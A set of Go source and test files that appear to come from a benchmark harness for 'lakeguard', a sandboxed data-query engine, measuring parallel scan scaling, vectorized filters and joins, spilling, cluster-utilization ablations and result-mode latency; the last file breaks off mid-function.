// simulated latency lands only on the scan path being measured.
type latencyTables struct {
	inner exec.TableProvider
	delay time.Duration
}

// NewLatencyTables wraps a TableProvider so every data-file read pays a
// simulated object-store GET latency.
func NewLatencyTables(inner exec.TableProvider, delay time.Duration) exec.TableProvider {
	return &latencyTables{inner: inner, delay: delay}
}

func (l *latencyTables) OpenSnapshot(ctx security.RequestContext, table string, version int64) (*delta.Snapshot, func(string) (*types.Batch, error), error) {
	snap, read, err := l.inner.OpenSnapshot(ctx, table, version)
	if err != nil {
		return nil, nil, err
	}
	return snap, func(path string) (*types.Batch, error) {
		if l.delay > 0 && !strings.Contains(path, "_delta_log") {
			time.Sleep(l.delay)
		}
		return read(path)
	}, nil
}

// SeedEvents creates table `events` (id BIGINT, v BIGINT, cat STRING) as
// rows/rowsPerFile separate data files, so the parallel scan has file-granular
// morsels to distribute.
func (w *World) SeedEvents(rows, rowsPerFile int) (files int, err error) {
	schema := types.NewSchema(
		types.Field{Name: "id", Kind: types.KindInt64},
		types.Field{Name: "v", Kind: types.KindInt64},
		types.Field{Name: "cat", Kind: types.KindString},
	)
	if err := w.Cat.CreateTable(w.Ctx(), []string{"events"}, schema, false, ""); err != nil {
		return 0, err
	}
	cats := []string{"alpha", "beta", "gamma", "delta", "eps", "zeta", "eta", "theta"}
	var batches []*types.Batch
	id := 0
	for id < rows {
		sz := rowsPerFile
		if rows-id < sz {
			sz = rows - id
		}
		bb := types.NewBatchBuilder(schema, sz)
		for r := 0; r < sz; r++ {
			bb.Column(0).AppendInt64(int64(id))
			bb.Column(1).AppendInt64(int64((id * 37) % 1000))
			bb.Column(2).AppendString(cats[id%len(cats)])
			id++
		}
		batches = append(batches, bb.Build())
	}
	if _, err := w.Cat.AppendToTable(w.Ctx(), []string{"events"}, batches); err != nil {
		return 0, err
	}
	return len(batches), nil
}

// ExecScalingQuery is the workload: a multi-file scan with a pushed filter
// feeding a grouped aggregate — every parallel operator shape in one plan.
const ExecScalingQuery = "SELECT cat, SUM(v) AS total, COUNT(*) AS n FROM events WHERE v > 250 GROUP BY cat"

// RunExecScaling measures the workload wall time at each worker count, with
// and without modeled read latency.
func RunExecScaling(cfg ExecScalingConfig) (*ExecResult, error) {
	w := NewWorld(sandbox.Config{})
	files, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile)
	if err != nil {
		return nil, err
	}
	p, err := w.PreparePlan(ExecScalingQuery, nil, optimizer.DefaultOptions())
	if err != nil {
		return nil, err
	}

	measure := func(workers int, delay time.Duration) (time.Duration, error) {
		w.Engine.Tables = &latencyTables{inner: w.Cat, delay: delay}
		w.Engine.Parallelism = workers
		defer func() {
			w.Engine.Tables = w.Cat
			w.Engine.Parallelism = 0
		}()
		best := time.Duration(0)
		for rep := 0; rep < cfg.Repetitions; rep++ {
			start := time.Now()
			n, err := w.Run(p)
			took := time.Since(start)
			if err != nil {
				return 0, err
			}
			if n == 0 {
				return 0, fmt.Errorf("bench: scaling query returned no rows")
			}
			if rep == 0 || took < best {
				best = took
			}
		}
		return best, nil
	}

	res := &ExecResult{
		CPUs:          runtime.NumCPU(),
		GoMaxProcs:    runtime.GOMAXPROCS(0),
		Rows:          cfg.Rows,
		Files:         files,
		ReadLatencyMS: float64(cfg.ReadLatency) / float64(time.Millisecond),
		Query:         ExecScalingQuery,
	}
	var base time.Duration
	for _, workers := range cfg.Workers {
		withLat, err := measure(workers, cfg.ReadLatency)
		if err != nil {
			return nil, err
		}
		inMem, err := measure(workers, 0)
		if err != nil {
			return nil, err
		}
		if workers == cfg.Workers[0] {
			base = withLat
		}
		res.Scaling = append(res.Scaling, ExecScalingPoint{
			Workers:   workers,
			LatencyMS: float64(withLat) / float64(time.Millisecond),
			InMemMS:   float64(inMem) / float64(time.Millisecond),
			Speedup:   float64(base) / float64(withLat),
		})
	}
	return res, nil
}

// FilterKernel holds the two filter implementations being compared: the
// per-row interpreter path and the compiled columnar program, both over the
// same integer column and `v > 500` predicate. Each Run returns the number of
// rows kept.
type FilterKernel struct {
	Rows         int
	RunRowInterp func() int
	RunVec       func() int
}

// NewFilterKernel builds the comparison inputs once.
func NewFilterKernel(rows int) (*FilterKernel, error) {
	b := types.NewBuilder(types.KindInt64, rows)
	for i := 0; i < rows; i++ {
		b.Append(types.Int64(int64((i * 37) % 1000)))
	}
	cols := []*types.Column{b.Build()}
	pred := &plan.Binary{
		Op:         plan.OpGt,
		L:          &plan.BoundRef{Index: 0, Name: "v", Kind: types.KindInt64},
		R:          plan.Lit(types.Int64(500)),
		ResultKind: types.KindBool,
	}
	prog, ok := eval.CompileVec(pred, []types.Kind{types.KindInt64})
	if !ok {
		return nil, fmt.Errorf("bench: comparison predicate did not vectorize")
	}
	return &FilterKernel{
		Rows: rows,
		RunRowInterp: func() int {
			kept := 0
			for r := 0; r < rows; r++ {
				ok, err := eval.EvalPredicate(pred, func(ci int) types.Value { return cols[ci].Value(r) }, nil)
				if err == nil && ok {
					kept++
				}
			}
			return kept
		},
		RunVec: func() int {
			out := prog.Run(cols, rows, nil)
			bits := out.Int64s()
			kept := 0
			for r := 0; r < rows; r++ {
				if bits[r] == 1 {
					kept++
				}
			}
			return kept
		},
	}, nil
}

// RunFilterKernel measures the row interpreter against the vectorized kernel
// on `v > 500` over one integer column — the exact two code paths a filter
// takes (per-row EvalPredicate vs a compiled columnar program).
func RunFilterKernel(rows, reps int) (FilterKernelResult, error) {
	kernel, err := NewFilterKernel(rows)
	if err != nil {
		return FilterKernelResult{}, err
	}
	runRow, runVec := kernel.RunRowInterp, kernel.RunVec

	best := func(fn func() int) (time.Duration, error) {
		var bestD time.Duration
		for rep := 0; rep < reps; rep++ {
			start := time.Now()
			kept := fn()
			took := time.Since(start)
			if kept == 0 {
				return 0, fmt.Errorf("bench: filter kernel kept no rows")
			}
			if rep == 0 || took < bestD {
				bestD = took
			}
		}
		return bestD, nil
	}
	rowD, err := best(runRow)
	if err != nil {
		return FilterKernelResult{}, err
	}
	vecD, err := best(runVec)
	if err != nil {
		return FilterKernelResult{}, err
	}
	return FilterKernelResult{
		Rows:        rows,
		RowNsPerRow: float64(rowD.Nanoseconds()) / float64(rows),
		VecNsPerRow: float64(vecD.Nanoseconds()) / float64(rows),
		Speedup:     float64(rowD) / float64(vecD),
	}, nil
}

// FormatExecScaling renders the experiment like the paper's figures.
func FormatExecScaling(r *ExecResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Morsel-driven scan→filter→aggregate scaling (%d rows, %d files, %.0fms/GET modeled)\n", r.Rows, r.Files, r.ReadLatencyMS)
	fmt.Fprintf(&sb, "host: %d CPU(s), GOMAXPROCS=%d — latency-modeled speedup comes from overlapping GET waits\n\n", r.CPUs, r.GoMaxProcs)
	fmt.Fprintf(&sb, "  %-8s %14s %14s %9s\n", "workers", "latency-model", "in-memory", "speedup")
	for _, p := range r.Scaling {
		fmt.Fprintf(&sb, "  %-8d %12.1fms %12.1fms %8.2fx\n", p.Workers, p.LatencyMS, p.InMemMS, p.Speedup)
	}
	fmt.Fprintf(&sb, "\nVectorized filter kernel vs row interpreter (%d rows, v > 500):\n", r.FilterKernel.Rows)
	fmt.Fprintf(&sb, "  row interpreter: %7.1f ns/row\n  vectorized:      %7.1f ns/row\n  speedup:         %7.2fx\n",
		r.FilterKernel.RowNsPerRow, r.FilterKernel.VecNsPerRow, r.FilterKernel.Speedup)
	return sb.String()
}
