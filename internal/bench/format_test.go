package bench

import (
	"strings"
	"testing"
	"time"
)

func TestFormatTable2Layout(t *testing.T) {
	rows := []Table2Row{
		{NumUDFs: 1, SimpleOverheadPct: 9.53, HashOverheadPct: 3.37,
			SimpleIsolated: 100 * time.Millisecond, SimpleUnisolated: 91 * time.Millisecond,
			HashIsolated: 200 * time.Millisecond, HashUnisolated: 193 * time.Millisecond},
		{NumUDFs: 10, SimpleOverheadPct: 12.02, HashOverheadPct: 4.15},
	}
	out := FormatTable2(rows)
	for _, want := range []string{"Num UDF", "Sum(a+b)", "100x SHA256", "9.53%", "12.02%", "Raw timings"} {
		if !strings.Contains(out, want) {
			t.Errorf("FormatTable2 missing %q:\n%s", want, out)
		}
	}
}

func TestFormatMembraneLayout(t *testing.T) {
	out := FormatMembrane(MembraneResult{
		LakeguardUtilization: 0.965, MembraneUtilization: 0.957,
		LakeguardBacklog: 94.6, MembraneBacklog: 231.5,
	})
	for _, want := range []string{"96.5%", "95.7%", "231.5", "static two-domain"} {
		if !strings.Contains(out, want) {
			t.Errorf("FormatMembrane missing %q:\n%s", want, out)
		}
	}
}

func TestFormatEFGACModesLayout(t *testing.T) {
	out := FormatEFGACModes([]EFGACModeRow{
		{Rows: 100, Inline: 409 * time.Microsecond, Spill: 512 * time.Microsecond},
		{Rows: 50_000, Inline: 70 * time.Millisecond, Spill: 53 * time.Millisecond},
	})
	for _, want := range []string{"Result rows", "100", "50000", "Inline", "Spill"} {
		if !strings.Contains(out, want) {
			t.Errorf("FormatEFGACModes missing %q:\n%s", want, out)
		}
	}
}

func TestOverheadPct(t *testing.T) {
	if got := overheadPct(110*time.Millisecond, 100*time.Millisecond); got < 9.9 || got > 10.1 {
		t.Errorf("overhead = %f", got)
	}
	if overheadPct(1, 0) != 0 {
		t.Error("zero baseline should yield 0")
	}
}

func TestMedian(t *testing.T) {
	ts := []time.Duration{5, 1, 3}
	if median(ts) != 3 {
		t.Errorf("median = %v", median(ts))
	}
	if median([]time.Duration{7}) != 7 {
		t.Error("single median")
	}
}

func TestUDFQueryRendering(t *testing.T) {
	q := UDFQuery([]string{"udf0", "udf1"})
	want := "SELECT udf0(a, b) AS r0, udf1(a, b) AS r1 FROM pairs"
	if q != want {
		t.Errorf("q = %q", q)
	}
}
