package bench

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// JoinConfig sizes the vectorized-join experiment.
type JoinConfig struct {
	// Rows is the probe-side (events) table size.
	Rows int
	// RowsPerFile sets probe-side file granularity (id is clustered, so the
	// runtime filter can prune at file granularity).
	RowsPerFile int
	// BuildRows is the build-side (dims) table size for the kernel series.
	BuildRows int
	// SpillBytes is the hash-table budget for the spill-equivalence series.
	SpillBytes int64
	// Repetitions per timed series; the minimum wall time is kept.
	Repetitions int
}

// DefaultJoinConfig is the recorded experiment: a 400k-row probe side over
// ~98 files against a 500-key build side, spilling under a 1 MiB budget.
func DefaultJoinConfig() JoinConfig {
	return JoinConfig{
		Rows:        400_000,
		RowsPerFile: 4096,
		BuildRows:   500,
		SpillBytes:  1 << 20,
		Repetitions: 3,
	}
}

// JoinResult is the full recorded experiment, serialized to BENCH_join.json.
type JoinResult struct {
	Rows      int    `json:"rows"`
	Files     int    `json:"files"`
	BuildRows int    `json:"build_rows"`
	Query     string `json:"query"`
	// Kernel series: the same hash join executed by the row-at-a-time
	// reference operator vs the vectorized probe, serial, no storage model.
	RowWallMS    float64 `json:"row_probe_wall_ms"`
	VecWallMS    float64 `json:"vec_probe_wall_ms"`
	ProbeSpeedup float64 `json:"probe_speedup"`
	// Runtime-filter series: object-store GETs for a selective join with the
	// build-side filter disabled vs enabled (composes with zone maps).
	RFQuery        string  `json:"rf_query"`
	BaselineGets   int64   `json:"baseline_gets"`
	FilteredGets   int64   `json:"rf_gets"`
	GetReduction   float64 `json:"rf_get_reduction"`
	RFFilesPruned  int64   `json:"rf_files_pruned"`
	RFRowsFiltered int64   `json:"rf_rows_filtered"`
	// Spill series: the same join + aggregation under a tiny hash-table
	// budget must produce byte-identical output to the in-memory run.
	SpillQuery      string `json:"spill_query"`
	SpillBytesLimit int64  `json:"spill_bytes_limit"`
	SpillPartitions int64  `json:"spill_partitions"`
	SpillBytes      int64  `json:"spill_bytes"`
	SpillIdentical  bool   `json:"spill_identical"`
}

// FormatJSON renders the result for BENCH_join.json.
func (r *JoinResult) FormatJSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}

// seedDims creates the build-side table `dims` with keys 0..n-1, so roughly
// n/1000 of the events rows' v values match.
func seedDims(w *World, n int) error {
	schema := types.NewSchema(
		types.Field{Name: "k", Kind: types.KindInt64},
		types.Field{Name: "label", Kind: types.KindString},
	)
	if err := w.Cat.CreateTable(w.Ctx(), []string{"dims"}, schema, false, ""); err != nil {
		return err
	}
	bb := types.NewBatchBuilder(schema, n)
	for i := 0; i < n; i++ {
		bb.Column(0).AppendInt64(int64(i))
		bb.Column(1).AppendString(fmt.Sprintf("d%04d", i))
	}
	_, err := w.Cat.AppendToTable(w.Ctx(), []string{"dims"}, []*types.Batch{bb.Build()})
	return err
}

// runRows executes a plan and renders every output row in order, for
// byte-identical result comparison between engine configurations.
func runRows(w *World, p plan.Node) (string, int, error) {
	qc := exec.NewQueryContext(w.Cat, w.Ctx())
	batches, err := w.Engine.Execute(qc, p)
	if err != nil {
		return "", 0, err
	}
	var sb strings.Builder
	n := 0
	for _, b := range batches {
		for i := 0; i < b.NumRows(); i++ {
			fmt.Fprintln(&sb, b.Row(i))
			n++
		}
	}
	return sb.String(), n, nil
}

// joinWorld builds a fresh world with the events and dims tables and metrics
// wired.
func joinWorld(cfg JoinConfig) (*World, *telemetry.Registry, int, error) {
	w := NewWorld(sandbox.Config{})
	m := telemetry.NewRegistry()
	w.Cat.SetMetrics(m)
	w.Engine.Metrics = m
	files, err := w.SeedEvents(cfg.Rows, cfg.RowsPerFile)
	if err != nil {
		return nil, nil, 0, err
	}
	if err := seedDims(w, cfg.BuildRows); err != nil {
		return nil, nil, 0, err
	}
	return w, m, files, nil
}

// RunJoin measures the vectorized-join experiment: probe-kernel speedup over
// the row-at-a-time reference, runtime-filter GET reduction on a selective
// join, and spilled-vs-in-memory result equivalence.
func RunJoin(cfg JoinConfig) (*JoinResult, error) {
	res := &JoinResult{Rows: cfg.Rows, BuildRows: cfg.BuildRows, SpillBytesLimit: cfg.SpillBytes}
	res.Query = "SELECT COUNT(*) AS n, SUM(e.v) AS sv, MIN(d.label) AS lo FROM events e JOIN dims d ON e.v = d.k"

	// Kernel series: fresh world per mode so neither run warms the other,
	// serial execution so the comparison isolates the probe kernels.
	kernel := func(rowPath bool) (time.Duration, error) {
		w, _, files, err := joinWorld(cfg)
		if err != nil {
			return 0, err
		}
		res.Files = files
		w.Engine.Parallelism = 1
		w.Engine.DisableVecExec = rowPath
		p, err := w.PreparePlan(res.Query, nil, optimizer.DefaultOptions())
		if err != nil {
			return 0, err
		}
		var best time.Duration
		for rep := 0; rep < cfg.Repetitions; rep++ {
			start := time.Now()
			n, err := w.Run(p)
			took := time.Since(start)
			if err != nil {
				return 0, err
			}
			if n == 0 {
				return 0, fmt.Errorf("bench: join probe query returned no rows")
			}
			if rep == 0 || took < best {
				best = took
			}
		}
		return best, nil
	}
	rowWall, err := kernel(true)
	if err != nil {
		return nil, err
	}
	vecWall, err := kernel(false)
	if err != nil {
		return nil, err
	}
	res.RowWallMS = float64(rowWall) / float64(time.Millisecond)
	res.VecWallMS = float64(vecWall) / float64(time.Millisecond)
	res.ProbeSpeedup = float64(rowWall) / float64(vecWall)

	// Runtime-filter series: a selective join whose build keys all live in
	// one probe file's id range. Every other probe file must be skipped by
	// the build-side min/max against the same zone maps data skipping uses,
	// before any object-store GET.
	res.RFQuery = "SELECT COUNT(*) AS n FROM events e JOIN (SELECT k FROM dims WHERE k < 16) t ON e.id = t.k"
	rfSeries := func(disable bool) (int64, *telemetry.Registry, error) {
		w, m, _, err := joinWorld(cfg)
		if err != nil {
			return 0, nil, err
		}
		w.Engine.DisableRuntimeFilters = disable
		p, err := w.PreparePlan(res.RFQuery, nil, optimizer.DefaultOptions())
		if err != nil {
			return 0, nil, err
		}
		getsBefore, _ := w.Cat.Store().Stats()
		if _, err := w.Run(p); err != nil {
			return 0, nil, err
		}
		getsAfter, _ := w.Cat.Store().Stats()
		return getsAfter - getsBefore, m, nil
	}
	baseGets, _, err := rfSeries(true)
	if err != nil {
		return nil, err
	}
	rfGets, m, err := rfSeries(false)
	if err != nil {
		return nil, err
	}
	res.BaselineGets, res.FilteredGets = baseGets, rfGets
	if rfGets > 0 {
		res.GetReduction = float64(baseGets) / float64(rfGets)
	}
	res.RFFilesPruned = m.Counter("scan.files.rf_pruned").Value()
	res.RFRowsFiltered = m.Counter("join.rf.rows_filtered").Value()

	// Spill series: same world, same plan, in-memory vs a tiny hash-table
	// budget. The spilled run must reproduce the in-memory output
	// byte-for-byte and actually spill (partition count from /metrics).
	res.SpillQuery = "SELECT e.cat, COUNT(*) AS n, SUM(f.v) AS sv FROM events e JOIN events f ON e.id = f.id GROUP BY e.cat"
	w, m2, _, err := joinWorld(cfg)
	if err != nil {
		return nil, err
	}
	p, err := w.PreparePlan(res.SpillQuery, nil, optimizer.DefaultOptions())
	if err != nil {
		return nil, err
	}
	memRows, n, err := runRows(w, p)
	if err != nil {
		return nil, err
	}
	if n == 0 {
		return nil, fmt.Errorf("bench: spill query returned no rows")
	}
	w.Engine.SpillBytes = cfg.SpillBytes
	spillRows, _, err := runRows(w, p)
	if err != nil {
		return nil, err
	}
	res.SpillIdentical = memRows == spillRows
	res.SpillPartitions = m2.Counter("exec.spill.partitions").Value()
	res.SpillBytes = m2.Counter("exec.spill.bytes").Value()
	if res.SpillPartitions == 0 {
		return nil, fmt.Errorf("bench: spill budget %d did not trigger spilling", cfg.SpillBytes)
	}
	return res, nil
}

// FormatJoin renders the experiment in the report layout.
func FormatJoin(r *JoinResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Vectorized hash join: %d probe rows in %d files, %d build keys\n", r.Rows, r.Files, r.BuildRows)
	fmt.Fprintf(&b, "query: %s\n\n", r.Query)
	fmt.Fprintf(&b, "%-28s %12s %12s\n", "", "row probe", "vectorized")
	fmt.Fprintf(&b, "%-28s %12.1f %12.1f\n", "probe wall ms (serial)", r.RowWallMS, r.VecWallMS)
	fmt.Fprintf(&b, "\nvectorized probe %.1fx faster\n\n", r.ProbeSpeedup)
	fmt.Fprintf(&b, "runtime filter (selective join): %d GETs -> %d GETs (%.1fx fewer), %d files pruned, %d probe rows filtered\n",
		r.BaselineGets, r.FilteredGets, r.GetReduction, r.RFFilesPruned, r.RFRowsFiltered)
	fmt.Fprintf(&b, "spill-to-storage: budget %d bytes -> %d partitions / %d bytes spilled, identical output: %v\n",
		r.SpillBytesLimit, r.SpillPartitions, r.SpillBytes, r.SpillIdentical)
	return b.String()
}
