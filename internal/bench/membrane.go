package bench

import (
	"fmt"
	"math/rand"
	"strings"
)

// MembraneConfig parametrizes the A3 ablation: cluster utilization under
// Lakeguard's shared sandbox pool versus a Membrane-style static split of
// the cluster into a trusted engine domain and a user-code domain (paper §7:
// "dividing the cluster into two security domains does not efficiently allow
// the sharing and scaling of resources based on need").
type MembraneConfig struct {
	// Hosts is the cluster size.
	Hosts int
	// Steps is the number of scheduling ticks to simulate.
	Steps int
	// Seed makes the bursty workload reproducible.
	Seed int64
	// MeanEngineWork and MeanUserWork are per-tick expected work units;
	// bursts swing the ratio between them.
	MeanEngineWork, MeanUserWork float64
}

// DefaultMembraneConfig models a 16-host cluster under a variable workload.
func DefaultMembraneConfig() MembraneConfig {
	return MembraneConfig{Hosts: 16, Steps: 2000, Seed: 42, MeanEngineWork: 8, MeanUserWork: 8}
}

// MembraneResult compares the two architectures.
type MembraneResult struct {
	// LakeguardUtilization and MembraneUtilization are mean fractions of
	// host capacity doing useful work.
	LakeguardUtilization float64
	MembraneUtilization  float64
	// LakeguardBacklog and MembraneBacklog are mean queued work units
	// (lower is better; backlog means queries wait).
	LakeguardBacklog float64
	MembraneBacklog  float64
}

// RunMembraneComparison simulates a bursty workload of engine work (scans,
// joins) and user-code work (UDFs) arriving each tick.
//
//   - Lakeguard: every host can run either kind of work, because isolation
//     is per-sandbox, not per-host. Capacity flexes with the burst.
//   - Membrane: hosts are statically split between a trusted engine domain
//     and a user-code domain; work queues in its own domain even when the
//     other domain is idle (domains can never overlap due to residual
//     state).
func RunMembraneComparison(cfg MembraneConfig) MembraneResult {
	if cfg.Hosts == 0 {
		cfg = DefaultMembraneConfig()
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	halfA := cfg.Hosts / 2
	halfB := cfg.Hosts - halfA

	var lgBusy, lgBacklogSum float64
	var mbBusy, mbBacklogSum float64
	var lgQueue float64
	var mbEngineQueue, mbUserQueue float64

	for step := 0; step < cfg.Steps; step++ {
		// Bursty arrivals: the engine/user mix oscillates so one domain is
		// periodically hot while the other is cold.
		phase := float64(step%100) / 100
		engineArrive := poissonish(rng, cfg.MeanEngineWork*(0.2+1.6*phase))
		userArrive := poissonish(rng, cfg.MeanUserWork*(1.8-1.6*phase))

		// Lakeguard: one shared pool.
		lgQueue += engineArrive + userArrive
		served := minf(lgQueue, float64(cfg.Hosts))
		lgQueue -= served
		lgBusy += served
		lgBacklogSum += lgQueue

		// Membrane: two static pools.
		mbEngineQueue += engineArrive
		mbUserQueue += userArrive
		se := minf(mbEngineQueue, float64(halfA))
		su := minf(mbUserQueue, float64(halfB))
		mbEngineQueue -= se
		mbUserQueue -= su
		mbBusy += se + su
		mbBacklogSum += mbEngineQueue + mbUserQueue
	}
	total := float64(cfg.Steps * cfg.Hosts)
	return MembraneResult{
		LakeguardUtilization: lgBusy / total,
		MembraneUtilization:  mbBusy / total,
		LakeguardBacklog:     lgBacklogSum / float64(cfg.Steps),
		MembraneBacklog:      mbBacklogSum / float64(cfg.Steps),
	}
}

// poissonish draws a cheap non-negative random count with the given mean.
func poissonish(rng *rand.Rand, mean float64) float64 {
	if mean <= 0 {
		return 0
	}
	return rng.ExpFloat64() * mean
}

func minf(a, b float64) float64 {
	if a < b {
		return a
	}
	return b
}

// FormatMembrane renders the comparison.
func FormatMembrane(r MembraneResult) string {
	var b strings.Builder
	b.WriteString("Ablation A3: shared sandbox pool (Lakeguard) vs static two-domain\n")
	b.WriteString("split (Membrane-style) under a bursty engine/user workload.\n\n")
	fmt.Fprintf(&b, "  Lakeguard: utilization %.1f%%  mean backlog %.1f work units\n",
		r.LakeguardUtilization*100, r.LakeguardBacklog)
	fmt.Fprintf(&b, "  Membrane:  utilization %.1f%%  mean backlog %.1f work units\n",
		r.MembraneUtilization*100, r.MembraneBacklog)
	return b.String()
}
