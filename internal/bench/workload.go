// Package bench implements the experiment harness: workload generators, the
// baselines (unisolated execution, unfused sandboxes, Membrane-style static
// cluster splits), and runners that regenerate every table and figure of the
// paper's evaluation (see DESIGN.md §2 for the experiment index).
package bench

import (
	"context"
	"fmt"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/sql"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

// Admin is the benchmark administrator identity.
const Admin = "bench-admin"

// World is an in-process deployment used by benchmarks: catalog + engine,
// without the HTTP layer so measurements isolate execution costs.
type World struct {
	Cat        *catalog.Catalog
	Engine     *exec.Engine
	Dispatcher *sandbox.Dispatcher
}

// NewWorld builds a bench world. sandboxCfg controls isolation behavior.
func NewWorld(sandboxCfg sandbox.Config) *World {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(Admin)
	dispatcher := sandbox.NewDispatcher(sandbox.FactoryFunc(func(ctx context.Context, domain string) (*sandbox.Sandbox, error) {
		return sandbox.NewContext(ctx, domain, sandboxCfg)
	}))
	return &World{
		Cat:        cat,
		Dispatcher: dispatcher,
		Engine:     &exec.Engine{Tables: cat, Dispatcher: dispatcher, FuseUDFs: true},
	}
}

// Ctx returns the admin request context.
func (w *World) Ctx() catalog.RequestContext {
	return catalog.RequestContext{User: Admin, Compute: catalog.ComputeStandard, SessionID: "bench"}
}

// SeedPairs creates table `pairs` with n rows of two BIGINT columns — the
// fixed-row-count workload of the Table 2 experiment.
func (w *World) SeedPairs(n int) error {
	schema := types.NewSchema(
		types.Field{Name: "a", Kind: types.KindInt64},
		types.Field{Name: "b", Kind: types.KindInt64},
	)
	if err := w.Cat.CreateTable(w.Ctx(), []string{"pairs"}, schema, false, ""); err != nil {
		return err
	}
	var batches []*types.Batch
	remaining := n
	i := 0
	for remaining > 0 {
		sz := types.DefaultBatchSize * 8
		if sz > remaining {
			sz = remaining
		}
		bb := types.NewBatchBuilder(schema, sz)
		for r := 0; r < sz; r++ {
			bb.Column(0).AppendInt64(int64(i))
			bb.Column(1).AppendInt64(int64(i * 7))
			i++
		}
		batches = append(batches, bb.Build())
		remaining -= sz
	}
	_, err := w.Cat.AppendToTable(w.Ctx(), []string{"pairs"}, batches)
	return err
}

// UDF kernels matching the paper's two workloads.
const (
	// SimpleUDFBody is the "Sum(a+b)" kernel: negligible compute, overhead
	// dominated by moving batches across the isolation boundary.
	SimpleUDFBody = "return a + b"
	// HashUDFBody is the "100x SHA256" kernel: CPU-bound user code, so the
	// relative isolation overhead shrinks.
	HashUDFBody = `
h = str(a)
for i in range(100):
    h = sha256(h)
return h
`
)

// RegisterBenchUDFs registers n copies of the given kernel as session UDFs
// in the analyzer (same owner = one trust domain, so they fuse).
func RegisterBenchUDFs(a *analyzer.Analyzer, n int, body string, returns types.Kind, owner string) []string {
	if a.TempFuncs == nil {
		a.TempFuncs = map[string]analyzer.TempFunc{}
	}
	names := make([]string, n)
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("udf%d", i)
		params := []types.Field{
			{Name: "a", Kind: types.KindInt64},
			{Name: "b", Kind: types.KindInt64},
		}
		a.TempFuncs[name] = analyzer.TempFunc{Params: params, Returns: returns, Body: body, Owner: owner}
		names[i] = name
	}
	return names
}

// udfNames returns the deterministic names RegisterBenchUDFs assigns.
func udfNames(n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("udf%d", i)
	}
	return names
}

// UDFQuery builds "SELECT udf0(a,b), udf1(a,b), ... FROM pairs".
func UDFQuery(udfNames []string) string {
	q := "SELECT "
	for i, n := range udfNames {
		if i > 0 {
			q += ", "
		}
		q += fmt.Sprintf("%s(a, b) AS r%d", n, i)
	}
	return q + " FROM pairs"
}

// PreparePlan parses, analyzes (with the given UDFs), and optimizes a query.
func (w *World) PreparePlan(query string, prep func(*analyzer.Analyzer), opts optimizer.Options) (plan.Node, error) {
	q, err := sql.ParseQuery(query)
	if err != nil {
		return nil, err
	}
	a := analyzer.New(w.Cat, w.Ctx())
	if prep != nil {
		prep(a)
	}
	resolved, err := a.Analyze(q)
	if err != nil {
		return nil, err
	}
	return optimizer.Optimize(resolved, opts), nil
}

// Run executes a prepared plan to completion and returns the row count.
func (w *World) Run(p plan.Node) (int, error) {
	qc := exec.NewQueryContext(w.Cat, w.Ctx())
	batches, err := w.Engine.Execute(qc, p)
	if err != nil {
		return 0, err
	}
	n := 0
	for _, b := range batches {
		n += b.NumRows()
	}
	return n, nil
}
