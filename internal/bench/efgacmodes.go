package bench

import (
	"fmt"
	"net/http/httptest"
	"strings"
	"time"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
)

// EFGACModesConfig parametrizes the E8 result-mode experiment: eFGAC results
// returned inline with the query vs spilled to cloud storage and fetched in
// parallel (paper §3.4, "two result aggregation modes ... chosen, for
// example, based on the size of the result set").
type EFGACModesConfig struct {
	// RowCounts sweeps the result size.
	RowCounts []int
	// Repetitions per point.
	Repetitions int
}

// DefaultEFGACModesConfig sweeps small to large results.
func DefaultEFGACModesConfig() EFGACModesConfig {
	return EFGACModesConfig{RowCounts: []int{100, 1_000, 10_000, 50_000}, Repetitions: 3}
}

// EFGACModeRow is one sweep point.
type EFGACModeRow struct {
	Rows   int
	Inline time.Duration
	Spill  time.Duration
}

// RunEFGACModes measures inline vs spilled result handling across result
// sizes on the full dedicated→serverless path.
func RunEFGACModes(cfg EFGACModesConfig) ([]EFGACModeRow, error) {
	if len(cfg.RowCounts) == 0 {
		cfg = DefaultEFGACModesConfig()
	}
	var out []EFGACModeRow
	for _, rows := range cfg.RowCounts {
		inline, err := measureEFGAC(rows, 1<<30, cfg.Repetitions) // threshold never reached
		if err != nil {
			return nil, err
		}
		spill, err := measureEFGAC(rows, 1, cfg.Repetitions) // always spill
		if err != nil {
			return nil, err
		}
		out = append(out, EFGACModeRow{Rows: rows, Inline: inline, Spill: spill})
	}
	return out, nil
}

func measureEFGAC(rows, spillThreshold, reps int) (time.Duration, error) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(Admin)
	serverless := core.NewServer(core.Config{
		Name: "sl", Catalog: cat, Compute: catalog.ComputeServerless, SpillThreshold: spillThreshold,
	})
	slHTTP := httptest.NewServer(connect.NewService(serverless, connect.TokenMap{"t": Admin, "t-u": "u1"}).Handler())
	defer slHTTP.Close()
	efgac := &core.EFGACClient{
		Dial: func(user, sessionID string) *connect.Client {
			if user == Admin {
				return connect.Dial(slHTTP.URL, "t")
			}
			return connect.Dial(slHTTP.URL, "t-u")
		},
		Cat: cat, Store: cat.Store(),
	}
	dedicated := core.NewServer(core.Config{
		Name: "ded", Catalog: cat, Compute: catalog.ComputeDedicated, Remote: efgac,
	})
	dedHTTP := httptest.NewServer(connect.NewService(dedicated, connect.TokenMap{"t-u": "u1"}).Handler())
	defer dedHTTP.Close()

	// Seed through a standard cluster and attach a row filter so the
	// dedicated cluster is forced onto the eFGAC path.
	std := core.NewServer(core.Config{Name: "std", Catalog: cat, Compute: catalog.ComputeStandard})
	stdHTTP := httptest.NewServer(connect.NewService(std, connect.TokenMap{"t": Admin}).Handler())
	defer stdHTTP.Close()
